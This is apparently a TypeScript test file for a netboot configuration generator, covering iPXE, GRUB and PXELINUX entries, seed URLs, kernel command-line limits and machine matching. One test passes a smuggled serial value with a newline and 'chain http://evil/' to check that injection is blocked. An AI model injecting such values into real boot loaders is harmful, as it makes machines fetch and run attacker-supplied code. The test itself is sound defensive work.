import * as assert from "uvu/assert";
import {
  directKernel,
  grubEntry,
  grubWord,
  ipxeEntry,
  ipxeRefusal,
  kernelLine,
  kernelLineLimit,
  kernelLineProblems,
  netBoot,
  pxelinuxEntry,
  pxelinuxRefusal,
} from "../../src/emit/netboot.ts";
import type { Node, Site } from "../../src/resolve/model.ts";
import { matchMachine } from "../../src/resolve/netboot.ts";
import { compileFiles } from "../support/build-site.ts";
import { suite } from "../support/suite.ts";

const sha256 = "0".repeat(64);
const compileSite = async (netboot: object, nodes: object = {}): Promise<Site> => {
  const { compiled, problems } = await compileFiles({
    "profiles/p.yaml": "profile: p\nsummary: A node with nothing\n",
    "sites/x/site.yaml": JSON.stringify({
      site: "x",
      target: "alpha-1",
      networks: { management: { cidr: "10.0.0.0/24", gateway: "10.0.0.254" } },
      access: { users: [{ name: "ops", password: true }] },
      netboot: {
        server: "10.0.0.250",
        installers: {
          "alpha-1": {
            kernel: { url: "http://mirror.example/one/vmlinuz", sha256 },
            initrd: { url: "http://mirror.example/one/initrd", sha256 },
            image: { url: "http://mirror.example/one/live.iso", sha256 },
          },
        },
        ...netboot,
      },
      nodes: {
        one: {
          profile: "p",
          netboot: {
            serial: "S1",
            uuid: "4C4C4544-0000-1000-8000-000000000001",
            macs: ["52:54:00:0a:00:02"],
          },
          interfaces: { management: { mac: "52:54:00:0a:00:01", address: "10.0.0.1" } },
        },
        two: {
          profile: "p",
          interfaces: { management: { mac: "52:54:00:0a:00:03", address: "10.0.0.2" } },
        },
        ...nodes,
      },
    }),
  });
  assert.equal(
    problems.filter(
      ({ notice, message }) => notice !== true && !message.startsWith("the kernel's command line"),
    ),
    [],
  );
  return compiled.site as Site;
};
const nodeOf = (site: Site, name: string): Node => site.byName.get(name) as Node;

suite("netboot entries", (test) => {
  test("the semicolon of ds= is quoted as each loader wants it", async () => {
    const site = await compileSite({});
    const one = nodeOf(site, "one");
    const ds = "ds=nocloud;s=http://10.0.0.250/seed/one/";
    assert.match(
      ipxeEntry(site, one, "install"),
      new RegExp(`^kernel http\\S+ initrd=initrd .* ${ds} `, "m"),
    );
    assert.match(grubEntry(site, one, "install"), `'${ds}'`);
    assert.match(pxelinuxEntry(site, one, "install"), new RegExp(`^  APPEND .* ${ds} `, "m"));
    assert.match(directKernel(site, one)?.append ?? "", ` ${ds} `);
  });

  test("what a shell would read in a word of GRUB's is in quotes", () => {
    assert.is(grubWord("ip=dhcp"), "ip=dhcp");
    assert.is(grubWord("a;b"), "'a;b'");
    assert.is(grubWord("a&b"), "'a&b'");
  });

  test("a token is a part of the seed's path, before its last slash", async () => {
    const site = await compileSite({ port: 8080 });
    assert.match(
      ipxeEntry(site, nodeOf(site, "two"), "install", { token: "t0k" }),
      "ds=nocloud;s=http://10.0.0.250:8080/seed/two/t0k/ seedsmith.report=http://10.0.0.250:8080/report/two/t0k",
    );
  });

  test("the card that it booted from is the one that the installer uses", async () => {
    const site = await compileSite({});
    assert.match(
      ipxeEntry(site, nodeOf(site, "one"), "install", {}, "52:54:00:0a:00:02"),
      "BOOTIF=01-52-54-00-0a-00-02",
    );
  });

  test("a node whose target has no installer boots its disk, whatever is asked", async () => {
    const site = await compileSite({ installers: {} });
    const one = nodeOf(site, "one");
    assert.is(netBoot(site.netboot!, one), null);
    for (const entry of [ipxeEntry, grubEntry, pxelinuxEntry]) {
      assert.is(entry(site, one, "install"), entry(site, one, "local"));
      assert.not.match(entry(site, one, "install"), "vmlinuz");
    }
  });

  test("a machine's own words cannot become a loader's", async () => {
    const site = await compileSite({});
    const said = ipxeRefusal(site, { serial: `a\nchain http://evil/ ${"$"}{x} || ;` });
    assert.is(said.split("\n").filter((line) => /^\s*chain/.test(line)).length, 0);
    assert.not.match(said, "$");
    assert.match(
      pxelinuxRefusal(site, { mac: "52:54:00:0a:00:99" }),
      "mac 52:54:00:0a:00:99 is no node of the site x",
    );
  });

  test("a command line is as long as the kernel reads, with what the loader adds, and not one character more", async () => {
    const base = await compileSite({ loaders: { uefi: "ipxe" } });
    const installer = base.netboot!.installers.get("alpha-1")!;
    const boot = netBoot(base.netboot!, nodeOf(base, "one"), { token: "0".repeat(64) })!;
    const room = kernelLineLimit - kernelLine(boot, "ipxe").length - 1;
    const problemsWith = async (length: number): Promise<number> => {
      const site = await compileSite({
        loaders: { uefi: "ipxe" },
        installers: {
          "alpha-1": {
            kernel: { url: "http://mirror.example/one/vmlinuz", sha256 },
            initrd: { url: "http://mirror.example/one/initrd", sha256 },
            image: { url: "http://mirror.example/one/live.iso", sha256 },
            arguments: ["x".repeat(length)],
          },
        },
      });
      return kernelLineProblems(site).length;
    };
    assert.is(installer.arguments.length, 0);
    assert.is(await problemsWith(room), 0);
    assert.ok((await problemsWith(room + 1)) > 0);
  });
});

suite("netboot match", (test) => {
  test("by any card, by serial, by UUID, however they are spelt", async () => {
    const site = await compileSite({});
    for (const identity of [
      { mac: "52:54:00:0A:00:01" },
      { mac: "52-54-00-0a-00-02" },
      { serial: "S1" },
      { uuid: "4c4c4544-0000-1000-8000-000000000001" },
      { mac: "52:54:00:0a:00:01", serial: "unknown", uuid: "4C4C4544-0000-1000-8000-000000000001" },
    ]) {
      const match = matchMachine(site, identity);
      assert.is(match.kind === "node" ? match.node.name : match.kind, "one");
    }
  });

  test("marks of two nodes are nobody's, and so are marks that nobody has", async () => {
    const site = await compileSite({});
    assert.is(matchMachine(site, { mac: "52:54:00:0a:00:03", serial: "S1" }).kind, "ambiguous");
    assert.is(matchMachine(site, { mac: "52:54:00:0a:00:99" }).kind, "nobody");
    assert.is(matchMachine(site, { mac: "nonsense" }).kind, "nobody");
  });
});
